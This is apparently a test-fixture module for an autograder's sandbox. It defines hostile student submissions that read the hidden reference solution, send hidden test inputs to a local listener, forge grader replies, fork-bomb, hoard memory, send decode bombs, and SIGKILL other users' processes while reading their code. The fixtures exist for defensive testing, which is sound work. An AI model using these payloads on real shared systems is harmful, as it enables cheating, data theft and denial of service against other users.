"""Attacks on the sandbox itself (issue 10): a student who has solved nothing tries to read
the course, harm classmates, leak hidden inputs or jam the grader.

Each attack is (base, code, broken): `code` is appended to the reference losses.py
(`base` "reference") or to the unsolved stub (`base` "stub"), and `broken` is the set of
checks its honest content fails (ALL: every check). Placeholders in the code:
`{course}` the course root, `{class_folder}` the class folder, `{port}` a listener on the
host's 127.0.0.1, `{handle_type}` and `{handle_hex}` the file handle of the reference
losses.py (what `open_by_handle_at` needs; a perfect guess, made by the test), `{hostile!r}`
a message full of escape sequences and markup (`test_hostile_feedback.HOSTILE`).
"""

import ctypes
import os

from attacks import ALL, CE_CHECKS, HINGE_CHECKS, MAE_CHECKS, MSE_CHECKS, MSE_GRADIENT_CHECKS

UNCHANGED = {"losses_leave_their_inputs_unchanged"}
STEAL = """
def _steal(read):
    try:
        return read()[:400]
    except OSError as error:
        return f"nothing to steal: {type(error).__name__}"
"""

SANDBOX_ATTACKS = {
    "reads_the_course_through_a_link": (
        "reference",
        STEAL + """
import os
def mean_squared_error(y_true, y_pred):
    here = os.path.dirname(os.path.abspath(__file__))
    raise ValueError(_steal(lambda: open(os.path.join(here, "stolen.py")).read()))
""",
        MSE_CHECKS | UNCHANGED,
    ),
    "opens_the_reference_by_its_handle": (
        "reference",
        STEAL + """
import ctypes, os
def _open_by_handle():
    class Handle(ctypes.Structure):
        _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 128)]
    raw = bytes.fromhex("{handle_hex}")
    handle = Handle(len(raw), {handle_type}, (ctypes.c_ubyte * 128)(*raw))
    libc = ctypes.CDLL(None, use_errno=True)
    mount = os.open("/", os.O_RDONLY)
    fd = libc.open_by_handle_at(mount, ctypes.byref(handle), os.O_RDONLY)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return os.read(fd, 4000).decode()
def mean_squared_error(y_true, y_pred):
    raise ValueError(_steal(_open_by_handle))
""",
        MSE_CHECKS | UNCHANGED,
    ),
    "escapes_its_session_to_harm_classmates": (
        "stub",
        """
import glob, os, signal, time
def _copy_a_classmate():
    for path in glob.glob("/tmp/autograder-sandbox-*/submission/losses.py") + glob.glob("/tmp/autograder-*/tmp/autograder-sandbox-*/submission/losses.py") + glob.glob("{class_folder}/*/losses.py"):
        try:
            exec(open(path).read(), globals())
        except Exception:
            pass
def _haunt():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            import ctypes
            ctypes.CDLL(None).prctl(15, b"haunter", 0, 0, 0)  # PR_SET_NAME, so the test can look for it
            for _ in range(400):
                for entry in os.listdir("/proc"):
                    if entry.isdigit() and int(entry) != os.getpid():
                        try:
                            os.kill(int(entry), signal.SIGKILL)
                        except OSError:
                            pass
                _copy_a_classmate()
                time.sleep(0.05)
        os._exit(0)
_copy_a_classmate()
_haunt()
""",
        ALL,
    ),
    "phones_home_with_the_hidden_inputs": (
        "reference",
        """
import socket
_reference_mse = mean_squared_error
def mean_squared_error(y_true, y_pred):
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=0.5) as phone:
            phone.sendall(repr((y_true.tolist(), y_pred.tolist())).encode())
    except OSError:
        pass
    return _reference_mse(y_true, y_pred)
""",
        set(),
    ),
    "scribbles_on_every_descriptor_then_sleeps": (
        "reference",
        """
import os, time
def hinge_loss(y_true, scores):
    for fd in range(1024):
        try:
            os.write(fd, b"\\xff\\x00\\x00\\x00\\x00\\x00\\x00\\x00half a message")
        except OSError:
            pass
    time.sleep(3600)
""",
        HINGE_CHECKS | UNCHANGED,
    ),
    "raises_an_exception_named_with_8_mb": (
        "reference",
        """
def mean_absolute_error(y_true, y_pred):
    raise type("E" * 8_000_000, (Exception,), {})("E" * 8_000_000)
""",
        MAE_CHECKS | {"losses_are_zero_for_a_perfect_prediction"} | UNCHANGED,
    ),
    "hoards_memory_in_six_children": (
        "reference",
        """
import os, time
def cross_entropy(labels, logits):
    for _ in range(6):
        if os.fork() == 0:
            hoard = np.ones(int(1.5 * 2**30) // 8)
            time.sleep(60)
            os._exit(0)
    time.sleep(60)
""",
        CE_CHECKS,
    ),
    "paints_the_terminal": (
        "reference",
        """
def hinge_loss(y_true, scores):
    raise ValueError({hostile!r})
""",
        HINGE_CHECKS | UNCHANGED,
    ),
    "drops_a_fork_bomb": (
        "reference",
        """
import os
def mse_gradient(y_true, y_pred):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
        MSE_GRADIENT_CHECKS | UNCHANGED,
    ),
}

# Hidden inputs spelled in everything student code chooses and a hidden check's feedback
# once showed: an exception type's name, a returned object's type name, an array's shape,
# an exit code, the line of a raise, and replies the worker never wrote.
SPELLS_THE_INPUTS = """
import os, sys
from autograder.worker import channel, codec
def _spell(a, n=12):
    return "_".join(f"{v:.6g}" for v in np.ravel(a)[:n]).replace("-", "m").replace(".", "p")
def _number(a):
    return int(abs(float(np.ravel(a)[0])) * 1e4) % 10**6 + 1
def _forge(reply):
    frame = sys._getframe()
    while "sock" not in frame.f_locals:
        frame = frame.f_back
    channel.send_blocking(frame.f_locals["sock"], codec.encode_message(reply, lambda value: None))
    os._exit(0)
def mean_squared_error(y_true, y_pred):
    raise type("Leak_" + _spell(y_true), (Exception,), {})()
def mean_absolute_error(y_true, y_pred):
    return np.zeros((0, *[_number(v) for v in np.ravel(y_true)[:2]]))
def binary_cross_entropy(y_true, p_pred, eps=1e-12):
    return type("Leak_" + _spell(p_pred), (), {})()
def binary_cross_entropy_with_logits(y_true, logits):
    _forge({"failed": "raised", "type": "Leak_" + _spell(logits), "message": "", "line": f"losses.py:{10**4 + _number(logits)}"})
def cross_entropy(labels, logits):
    sys.exit(_number(logits))
def hinge_loss(y_true, scores):
    exec(compile("\\n" * (10**4 + _number(scores)) + "raise ValueError()", __file__, "exec"))
def mse_gradient(y_true, y_pred):
    _forge({"failed": "exit", "message": "LEAK " + _spell(y_true)})
"""

# Replies that cost a grader GiBs to decode, sent straight into the worker's socket: 15 MiB
# of empty JSON lists (under the reply cap), and 1 MiB of them (under the header cap).
DECODE_BOMB = """
import os, struct, sys
def _bomb(mib):
    frame = sys._getframe()
    while "sock" not in frame.f_locals:
        frame = frame.f_back
    header = b"[" + b"[]," * (mib * 2**20 // 3 - 2) + b"[]]"
    frame.f_locals["sock"].sendall(struct.pack("<Q", len(header) + 8) + struct.pack("<Q", len(header)) + header)
    os._exit(0)
def mean_squared_error(y_true, y_pred):
    _bomb(15)
def mean_absolute_error(y_true, y_pred):
    _bomb(1)
"""

# A process that outruns a kill sweep which lists /proc first and kills after: it forks and
# lets its parent exit every millisecond, so no pid it had is there when the kill comes.
# Once its submission's folder is gone (its grading is over) it stops hopping and, as
# "haunter", kills every process it may signal (the next classmates' workers, when they
# run as the same user) and reads what it can of theirs, for a minute.
HOPS_PIDS = """
import os, subprocess, sys
_HOP = '''
import ctypes, glob, os, signal, sys, time
while True:
    try:
        child = os.fork()
    except OSError:
        time.sleep(0.0003)
        continue
    if child:
        os._exit(0)
    if not os.path.isdir(sys.argv[1]):
        break
    time.sleep(0.0008)
ctypes.CDLL(None).prctl(15, b"haunter", 0, 0, 0)
end = time.monotonic() + 60
while time.monotonic() < end:
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    for path in glob.glob("/tmp/autograder-sandbox-*/submission/losses.py") + glob.glob("/tmp/autograder-*/tmp/autograder-sandbox-*/submission/losses.py"):
        try:
            open(path).read()
        except OSError:
            pass
    time.sleep(0.01)
'''
if os.fork() == 0:
    os.setsid()
    subprocess.Popen([sys.executable, "-S", "-c", _HOP, os.path.dirname(os.path.abspath(__file__))], close_fds=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    os._exit(0)
"""

# Memory in files, which no process's VmData shows: memfds (64 MiB each, 4 GiB in all) and
# System V segments (1 GiB each, 4 in all). Either would pass its checks with the
# reference's answer if the memory escaped the 3 GiB limit.
HOARDS_IN_FILES = """
import ctypes, os
_reference_ce, _reference_hinge = cross_entropy, hinge_loss
def cross_entropy(labels, logits):
    held = []
    for i in range(64):
        held.append(os.memfd_create(f"hoard{i}"))
        os.write(held[-1], b"1" * 2**26)
    return _reference_ce(labels, logits)
def hinge_loss(y_true, scores):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    for _ in range(4):
        segment = libc.shmget(0, 2**30, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
        if segment < 0:
            raise OSError(ctypes.get_errno(), "shmget")
        ctypes.memset(libc.shmat(segment, None, 0), 1, 2**30)
    return _reference_hinge(y_true, scores)
"""

SANDBOX_ATTACKS.update(
    {
        "hoards_memory_in_files": ("reference", HOARDS_IN_FILES, CE_CHECKS | HINGE_CHECKS),
        "hops_pids_to_outlive_its_sandbox": ("stub", HOPS_PIDS, ALL),
        "spells_the_hidden_inputs": ("stub", SPELLS_THE_INPUTS, ALL),
        "spells_the_hidden_inputs_too": ("stub", SPELLS_THE_INPUTS, ALL),  # another student: other hidden inputs
        "answers_with_a_decode_bomb": ("reference", DECODE_BOMB, MSE_CHECKS | MAE_CHECKS),
    }
)

LINKS = {"reads_the_course_through_a_link": ("stolen.py", "{course}/solutions/losses.py")}


def file_handle(path: str) -> tuple[int, str]:
    """(handle_type, handle bytes as hex) of `path`, as name_to_handle_at(2) gives them."""

    class Handle(ctypes.Structure):
        _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 128)]

    handle, mount_id = Handle(128, 0), ctypes.c_int()
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.name_to_handle_at(-100, path.encode(), ctypes.byref(handle), ctypes.byref(mount_id), 0) != 0:  # AT_FDCWD
        raise OSError(ctypes.get_errno(), f"name_to_handle_at {path}")
    return handle.handle_type, bytes(handle.f_handle[: handle.handle_bytes]).hex()


def write_attack(folder, name: str, reference: str, stub: str, values: dict) -> None:
    """Write attack `name` as a submission folder (with its link, if it plants one)."""
    base, code, _ = SANDBOX_ATTACKS[name]
    folder.mkdir(parents=True)
    source = (reference if base == "reference" else stub) + "\n" + code
    for key, value in values.items():
        source = source.replace("{" + key + "!r}", repr(value)).replace("{" + key + "}", str(value))
    (folder / "losses.py").write_text(source, encoding="utf-8")
    if name in LINKS:
        link, target = LINKS[name]
        os.symlink(target.replace("{course}", str(values["course"])), folder / link)
